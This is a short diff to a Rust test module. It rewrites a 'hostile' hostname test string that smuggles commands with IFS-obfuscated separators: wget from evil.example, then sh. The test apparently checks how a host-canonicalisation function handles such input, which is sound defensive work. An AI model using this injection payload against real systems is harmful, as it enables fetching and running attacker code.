@@ -109,7 +109,7 @@ mod tests {
         ] {
             assert!(is_plain(host), "{host}");
         }
-        let hostile = "a;wget${ifs}evil.example;sh${ifs}x.evil.example";
+        let hostile = "a;wget$ifs$9evil.example;sh$ifs$9x.evil.example";
         assert_eq!(
             canonical_host(hostile).as_deref(),
             Ok(hostile),
